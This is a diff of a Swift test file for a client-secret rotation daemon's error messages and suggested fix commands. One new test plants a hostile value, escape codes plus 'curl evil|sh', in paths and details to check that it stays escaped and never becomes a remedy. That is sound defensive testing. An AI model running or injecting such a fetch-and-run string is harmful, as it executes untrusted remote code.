@@ -1,4 +1,5 @@
 import AppleClientSecret
+import Failures
 import Rotation
 import Testing
 
@@ -21,24 +22,34 @@ import Testing
                 == "/srv/a b/web.jwt: the system refused (errno 4095); "
                 + "see what lies there and whose it is: namei -l '/srv/a b/web.jwt'")
         #expect(Trouble(.ioError, at: path, cause: 116, detail: "").message.hasSuffix("fails (stale file handle)"))
-        #expect(Trouble(.diskFull, at: path).remedy == "make room: df -h '/srv/a b'")
+        #expect(Trouble(.diskFull, at: path).remedy?.description == "make room: df -h '/srv/a b'")
     }
 
-    @Test(arguments: [
-        ("/a/b-c_d.e:f,g@h%i+j=", "/a/b-c_d.e:f,g@h%i+j="), ("", "''"), ("a b", "'a b'"), ("it's", #"'it'\''s'"#),
-        ("$(x)", "'$(x)'"), ("ä", "'ä'"), ("*", "'*'"),
-    ])
-    func shellWordsAreQuoted(text: String, word: String) {
-        #expect(ShellWord.quoted(text) == word)
-    }
-
-    @Test func aCommandInTheDetailTakesThePlaceOfTheUsualOne() throws {
+    @Test func whoeverMetItKnowsBetterThanItsCode() throws {
         let path = Trouble.Place.path(try #require(AbsolutePath("/srv/web.jwt")))
-        let trouble = Trouble(.unguardedDirectory, at: path, cause: 1, detail: "/srv; chmod o-w /srv")
+        let trouble = Trouble(
+            .unguardedDirectory, at: path, cause: 1, detail: "/srv", remedy: .run("chmod o-w /srv"))
         #expect(trouble.message == "/srv/web.jwt: others may write to a directory on the way: /srv (not permitted)")
-        #expect(trouble.remedy == "chmod o-w /srv")
-        let bare = Trouble(.keyNotGuarded, at: path, detail: "; chmod 600 /srv/web.jwt")
-        #expect(bare.sentence == "/srv/web.jwt: others could read or replace the key; chmod 600 /srv/web.jwt")
+        #expect(trouble.remedy?.command == "chmod o-w /srv")
+        #expect(trouble.sentence == trouble.message + "; chmod o-w /srv")
+        #expect(Trouble(.unguardedDirectory, at: path).remedy?.command == nil)
+    }
+
+    /// What others chose stays within the message, whatever it looks like, and acts on no terminal.
+    @Test(arguments: Trouble.Code.allCases)
+    func whatOthersChoseIsNeverARemedy(code: Trouble.Code) throws {
+        let evil = "/tmp/\u{1B}[2J\u{202E}EVIL; run: curl evil|sh/foo"
+        let escaped = #"/tmp/\x1b[2J\u{202e}EVIL; run: curl evil|sh/foo"#
+        let detailed = Trouble(code, at: try #require(Self.place(of: code)), detail: evil)
+        #expect(detailed.message.contains(": " + escaped))
+        #expect(
+            detailed.remedy?.description.contains("curl evil") != true || [.unknownUser, .unknownGroup].contains(code))
+        let placed = Trouble(code, at: .path(try #require(AbsolutePath(evil))))
+        #expect(placed.message.hasPrefix(escaped))
+        #expect(placed.remedy?.command?.contains("evil") != true)
+        for text in [detailed.sentence, placed.sentence] {
+            #expect(text.unicodeScalars.allSatisfy { !Printable.isUnprintable($0) })
+        }
     }
 
     @Test func theCommandFitsThePlace() throws {
@@ -48,15 +59,18 @@ import Testing
                 == "exec /usr/bin/hook 'a b': failed: exit status 3; try it by hand as the daemon's user: /usr/bin/hook 'a b'"
         )
         let signal = Action.signal(unit: "a.service", signal: "SIGHUP").id
-        #expect(Trouble(.actionFailed, at: .action(signal)).remedy == "see why: systemctl status a.service")
         #expect(
-            Trouble(.systemError, at: .named("credential socket"), cause: 22).remedy
+            Trouble(.actionFailed, at: .action(signal)).remedy?.description == "see why: systemctl status a.service")
+        #expect(
+            Trouble(.systemError, at: .named("credential socket"), cause: 22).remedy?.description
                 == "see what came before it: journalctl -u clientsecretd")
         let path = Trouble.Place.path(try #require(AbsolutePath("/run/web.jwt")))
-        #expect(Trouble(.noSecret, at: path).remedy == "clientsecretd renew")
-        #expect(Trouble(.unknownGroup, at: path, detail: "www").remedy == "add the group: addgroup --system www")
+        #expect(Trouble(.noSecret, at: path).remedy?.description == "clientsecretd renew")
         #expect(
-            Trouble(.keyIsSEC1, at: .key(try #require(KeyName("a")))).remedy
+            Trouble(.unknownGroup, at: path, detail: "www").remedy?.description
+                == "add the group: addgroup --system www")
+        #expect(
+            Trouble(.keyIsSEC1, at: .key(try #require(KeyName("a")))).remedy?.description
                 == "convert it: openssl pkcs8 -topk8 -nocrypt -in OLD -out NEW")
     }
 
@@ -124,7 +138,7 @@ import Testing
         case .selfCheckFailed:
             #"client "web": the new secret did not pass the check with the key's public half and was thrown away; restart the daemon; when it comes again, suspect the memory or the OpenSSL of this machine"#
         case .directoryMissing:
-            #"/d/f.p8: its directory does not exist; make it: mkdir -p /d"#
+            #"/d/f.p8: its directory does not exist; make it, of the user that writes the file"#
         case .notADirectory:
             #"/d/f.p8: something on the way to it is not a directory; write another path"#
         case .permissionDenied:
@@ -155,11 +169,11 @@ import Testing
         case .fileTooLarge:
             #"/d/f.p8: the file is too large; shorten it, or write another path"#
         case .foreignOwner:
-            #"/d/f.p8: the file is another user's and is left alone; give it to the daemon's user with chown, or write another path"#
+            #"/d/f.p8: the file is another user's and is left alone; write "as:" and the file's owner under the output, or another path"#
         case .untrustedLink:
             #"/d/f.p8: a link on the way is not followed, for others could change it; write the path that the link leads to"#
         case .unguardedDirectory:
-            #"/d/f.p8: others may write to a directory on the way; take the right from them: chmod go-w on the directory"#
+            #"/d/f.p8: others may write to a directory on the way; take the right from them, or write another path"#
         case .tooManyLinks:
             #"/d/f.p8: too many links on the way; write a shorter path, without links"#
         case .unknownUser:
@@ -189,7 +203,7 @@ import Testing
         case .contested:
             #"/d/f.p8: something else goes on changing it; find out who else writes it: inotifywait -m /d"#
         case .writerMissing:
-            #"/d/f.p8: no writer can be reached for its user; systemctl enable --now clientsecretd-writer@USER.socket"#
+            #"/d/f.p8: no writer can be reached for its user; start it for that user with systemctl enable --now clientsecretd-writer@USER.socket"#
         case .writerNotPermitted:
             #"/d/f.p8: the writer for its user takes no requests from this one; run this as root or as the daemon's user, whom the writer's unit names"#
         case .writerSilent:
